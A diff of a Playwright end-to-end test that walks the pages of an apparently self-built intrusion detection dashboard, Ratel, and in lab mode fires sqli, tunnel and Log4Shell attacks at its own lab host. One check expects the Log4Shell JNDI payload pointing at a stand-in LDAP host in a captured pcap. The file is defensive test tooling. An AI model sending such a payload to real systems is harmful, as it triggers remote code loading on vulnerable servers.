@@ -1,11 +1,12 @@
-// Walks every page as an analyst would, against a Ratel that runs: node walk.mjs URL USER PASSWORD [CAPTURE]
+// Walks every page as an analyst would, against a Ratel that runs: node walk.mjs URL USER PASSWORD [CAPTURE [THE SAME WITH WRONG CHECKSUMS]]
 // With LAB=1 it attacks the lab's host itself, and sees what comes of it. Exit status 1 where anything failed.
 import { chromium as browsers } from 'playwright-core';
-import { existsSync, readFileSync } from 'node:fs';
-import { ATTACKERS, ATTACKER, HOST_IP, chromium, start } from './lab.mjs';
-import { Walk } from './steps.mjs';
+import { execFileSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { ATTACKERS, ATTACKER, HOOK_PORT, HOST_IP, chromium, start } from './lab.mjs';
+import { drop, Walk } from './steps.mjs';
 
-const [url, user, first, captureFile] = process.argv.slice(2);
+const [url, user, first, captureFile, wrongFile] = process.argv.slice(2);
 const isLab = Boolean(process.env.LAB);
 const OWN = 'a password of their own, long';
 const equal = (found, expected) => {
@@ -34,6 +35,13 @@ const go = async (key, name) => {
   await page.keyboard.press(key);
   await h1(name).waitFor();
 };
+
+/** Asks who started the walk for what only he can do. */
+const ask = (what) =>
+  new Promise((resolve) => {
+    process.once('message', resolve);
+    process.send(what);
+  });
 
 /** Attacks from the other namespace; gives back when the decisive packet left. */
 function attack(kind, from) {
@@ -82,6 +90,21 @@ await walk.step('a reload keeps the session', async () => {
   await h1('Overview').waitFor();
 });
 
+await walk.step('the pages come from the binary, without a word of others', async () => {
+  const from = await page.evaluate(() => [
+    ...new Set(
+      performance.getEntriesByType('resource').map((entry) => new URL(entry.name, location.href).origin),
+    ),
+  ]);
+  equal(from.join(), new URL(url).origin);
+  const answer = await page.request.get(url);
+  const policy = answer.headers()['content-security-policy'] ?? '';
+  truth(policy.includes("script-src 'self'") && !policy.includes('unsafe'), `the policy: ${policy}`);
+  const methods = await (await page.request.get(`${url}/api/v1/auth/methods`)).json();
+  equal(methods.oidc ?? null, null);
+  return `${new URL(url).protocol}//, ${policy.slice(0, 60)}…; no button of a provider, none is set`;
+});
+
 await walk.step('overview: live', async () => {
   await page.getByText('Data arrives live').waitFor({ state: 'attached' });
   await page.locator('.chart canvas').first().waitFor();
@@ -119,6 +142,12 @@ if (isLab) {
     await attack('sqli', ATTACKERS[6]);
     await attack('tunnel', ATTACKERS[7]);
   });
+  await walk.step('overview: the countries of who attacked', async () => {
+    await page.reload();
+    const panel = page.locator('section', { has: page.getByRole('heading', { name: /countries/i }) });
+    await panel.getByText('Netherlands').waitFor();
+    return (await panel.locator('li').allInnerTexts()).map((text) => text.replace(/\s+/g, ' ')).join(', ');
+  });
 }
 
 await walk.step('incidents: they are there, and j and Enter open one', async () => {
@@ -148,6 +177,17 @@ await walk.step('triage: own, note, close with a reason, open again', async () =
   await walk.a11y('incident');
 });
 
+if (isLab)
+  await walk.step('incident: who was told, when, by which receiver', async () => {
+    const panel = page.locator('section', { has: page.getByRole('heading', { name: 'Who was told' }) });
+    // Those who heard of the triage hear that it is open again.
+    await panel.getByText(/^soc \(webhook\) was told:/).waitFor();
+    await page.locator('.tl-mark-notification').first().waitFor();
+    const taken = await (await page.request.get(`http://127.0.0.1:${HOOK_PORT}/`)).json();
+    truth(taken.length > 0, 'the receiver took nothing');
+    return `${(await panel.locator('li').first().innerText()).replace(/\s+/g, ' ')}; the receiver took ${taken.length}`;
+  });
+
 await walk.step('a silence with its preview', async () => {
   await page.getByRole('button', { name: 'Silence…' }).click();
   const dialog = page.getByRole('dialog');
@@ -176,12 +216,19 @@ await walk.step('event: the bytes that matched are marked, the rule stands besid
   return `marked: ${marks.slice(0, 60)}`;
 });
 
-await walk.step('event: the packets can be had', async () => {
+await walk.step('event: its packets as a file, with the bytes that matched', async () => {
   const [got] = await Promise.all([
     page.waitForEvent('download'),
     page.getByRole('button', { name: 'pcap', exact: true }).click(),
   ]);
-  return got.suggestedFilename();
+  const path = await got.path();
+  if (!isLab) return got.suggestedFilename();
+  const shark = (...args) =>
+    execFileSync('tshark', ['-r', path, ...args], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
+  const packets = shark().trim().split('\n').length;
+  const request = shark('-Y', 'http.request', '-T', 'fields', '-e', 'http.request.line');
+  truth(request.includes('${jndi:ldap://203.0.113.9:1389/a}'), `tshark finds no such request: ${request}`);
+  return `${got.suggestedFilename()}, ${readFileSync(path).length} bytes; tshark reads ${packets} packets and the payload`;
 });
 
 await walk.step('hunt: completion, a refusal at its place, a pivot, columns, a saved query', async () => {
@@ -296,8 +343,24 @@ await walk.step('rules: search, one rule, its tuning', async () => {
   await page.getByText('It holds from now on.').waitFor();
 });
 
-if (captureFile && existsSync(captureFile)) {
-  const bytes = readFileSync(captureFile).toString('base64');
+await walk.step('rules: the dear ones first', async () => {
+  await page.getByLabel('Search rules').fill('');
+  await page.keyboard.press('Escape');
+  if (await page.getByRole('complementary').isVisible())
+    await page.getByRole('complementary').getByRole('button', { name: 'Close' }).click();
+  await page.getByRole('button', { name: 'By cost' }).click();
+  const share = page.locator('[role=row][data-index="0"] .rules-share');
+  await share.waitFor();
+  await page.waitForTimeout(300);
+  const cells = await page.locator('[role=row][data-index="0"] [role=cell]').allInnerTexts();
+  await walk.a11y('rules by cost');
+  return cells
+    .map((cell) => cell.trim())
+    .filter(Boolean)
+    .join(' | ');
+});
+
+if (captureFile) {
   await walk.step('rules: a test against a capture', async () => {
     await page.getByRole('button', { name: 'Test…' }).click();
     const dialog = page.getByRole('dialog');
@@ -313,30 +376,94 @@ if (captureFile && existsSync(captureFile)) {
     const text = await said.innerText();
     await walk.a11y('rule test');
     await page.keyboard.press('Escape');
+    if (isLab) truth(!text.startsWith('0 '), text);
     return text;
   });
+  const counts = page.locator('.hunt-capture .quiet').first();
+  const found = page.locator('.grid-foot span').first();
   await walk.step('a capture dropped on the page is read and shown', async () => {
     await go('o', 'Overview');
-    await page.evaluate((data) => {
-      const file = new File([Uint8Array.from(atob(data), (c) => c.charCodeAt(0))], 'dropped.pcap');
-      const transfer = new DataTransfer();
-      transfer.items.add(file);
-      for (const kind of ['dragenter', 'dragover', 'drop'])
-        document
-          .querySelector('main')
-          .dispatchEvent(new DragEvent(kind, { bubbles: true, cancelable: true, dataTransfer: transfer }));
-    }, bytes);
+    const begun = Date.now();
+    await drop(page, captureFile, 'of-the-lab.pcap');
     await h1('Hunt').waitFor({ timeout: 30_000 });
     await rows().first().waitFor({ timeout: 20_000 });
-    return `${await page.locator('.toast').last().innerText()}; ${await page.locator('.grid-foot span').first().innerText()}`;
+    const took = Date.now() - begun;
+    await page.locator('.hunt-capture', { hasText: 'of-the-lab.pcap' }).waitFor();
+    const said = await counts.innerText();
+    truth(!isLab || !/\b0 alerts/.test(said), said);
+    equal(await page.locator('.hunt-capture .note-warn').count(), 0);
+    // All of them are there in the end.
+    const events = /([\d,]+) events?/.exec(said)[1];
+    await found.filter({ hasText: `${events} events` }).waitFor();
+    await walk.a11y('capture');
+    return `${said}; on the page after ${took} ms; ${await found.innerText()}`;
   });
+  if (wrongFile)
+    await walk.step('a capture with wrong checksums: it is said, and read without checking', async () => {
+      await go('o', 'Overview');
+      await drop(page, wrongFile, 'with-wrong-checksums.pcap');
+      await h1('Hunt').waitFor({ timeout: 30_000 });
+      const note = page.locator('.hunt-capture .note-warn');
+      await note.waitFor();
+      const said = `${await counts.innerText()}; ${(await note.locator('b').innerText()).trim()}`;
+      await walk.a11y('capture left out');
+      await note.getByRole('button', { name: 'Read it without checking' }).click();
+      await page.getByText('read without checking checksums').waitFor({ timeout: 20_000 });
+      equal(await note.count(), 0);
+      await rows().first().waitFor({ timeout: 20_000 });
+      truth(!/\b0 alerts/.test(await counts.innerText()), await counts.innerText());
+      return `${said} Without checking: ${await counts.innerText()}`;
+    });
 }
 
 await walk.step('health, receivers', async () => {
   await go('e', 'Health');
   await page.getByRole('heading', { name: 'Loss budget' }).waitFor();
+  const readers = page.locator('section', { has: page.getByRole('heading', { name: 'Readers of the bus' }) });
+  await readers.getByText('alert').first().waitFor();
+  await page.locator('.health-room').first().waitFor();
   await walk.a11y('health');
+  const said = [
+    await readers.locator('header .end').innerText(),
+    (await page.locator('.health-rooms li').first().innerText()).replace(/\s+/g, ' '),
+  ];
+  if (!isLab) return said.join('; ');
+  await page.getByRole('button', { name: 'Test', exact: true }).click();
+  const toast = page.locator('.toast', { hasText: 'soc took it' });
+  await toast.waitFor();
+  return [...said, await toast.innerText()].join('; ');
 });
+
+if (isLab)
+  await walk.step(
+    'Ratel restarts under the page: the page says so, and is live again by itself',
+    async () => {
+      await go('o', 'Overview');
+      await page.getByText('Data arrives live').waitFor({ state: 'attached' });
+      const begun = Date.now();
+      const done = ask('restart');
+      const banner = page.locator('.stale');
+      await banner.waitFor({ timeout: 20_000 });
+      const seen = Date.now() - begun;
+      const said = (await banner.innerText()).replace(/\s+/g, ' ');
+      await walk.a11y('stale');
+      const { stopped, away } = await done;
+      const up = Date.now();
+      await banner.waitFor({ state: 'detached', timeout: 40_000 });
+      await page.getByText('Data arrives live').waitFor({ state: 'attached' });
+      const live = Date.now() - up;
+      // Without a reload, new things arrive again.
+      const from = ATTACKERS[8];
+      const row = page.locator('.ov-alerts li.is-fresh', { hasText: `${from} ` });
+      for (let i = 0; i < 10 && !(await row.count()); i++) {
+        await attack('log4shell', from);
+        await page.waitForTimeout(500);
+      }
+      await row.first().waitFor();
+      return `"${said}" after ${seen} ms (it stopped within ${stopped} ms); away for ${away} ms; live ${live} ms after it was back, an alert arrives`;
+    },
+  );
+walk.forgive(/ERR_|Failed to load resource|50[0-9]|401/);
 
 await walk.step('settings: silences, tokens, users, profile', async () => {
   await go('s', 'Settings');
@@ -376,22 +503,27 @@ await walk.step('palette and help', async () => {
   await page.keyboard.press('Escape');
 });
 
-await walk.step('the same in dark', async () => {
+await walk.step('the same in dark; how long each page takes', async () => {
   await page.getByRole('button', { name: 'Use the dark theme' }).click();
-  for (const [key, name] of [
-    ['o', 'Overview'],
-    ['i', 'Incidents'],
-    ['h', 'Hunt'],
-    ['t', 'Hosts'],
-    ['a', 'Actions'],
-    ['r', 'Rules'],
-    ['e', 'Health'],
-    ['s', 'Settings'],
+  const times = [];
+  for (const [key, name, shows] of [
+    ['o', 'Overview', '.chart canvas'],
+    ['i', 'Incidents', '[role=row][data-index]'],
+    ['h', 'Hunt', '[role=row][data-index]'],
+    ['t', 'Hosts', '[role=row][data-index]'],
+    ['a', 'Actions', '[role=row][data-index]'],
+    ['r', 'Rules', '[role=row][data-index]'],
+    ['e', 'Health', '.health-rooms'],
+    ['s', 'Settings', '.tabs'],
   ]) {
+    const begun = Date.now();
     await go(key, name);
-    await page.waitForTimeout(400);
+    await page.locator(shows).first().waitFor();
+    times.push(`${name} ${Date.now() - begun}`);
+    await page.waitForTimeout(300);
     await walk.a11y(`${name}, dark`);
   }
+  return `${times.join(', ')} ms`;
 });
 
 await walk.step('nothing hangs over at 400 pixels', async () => {
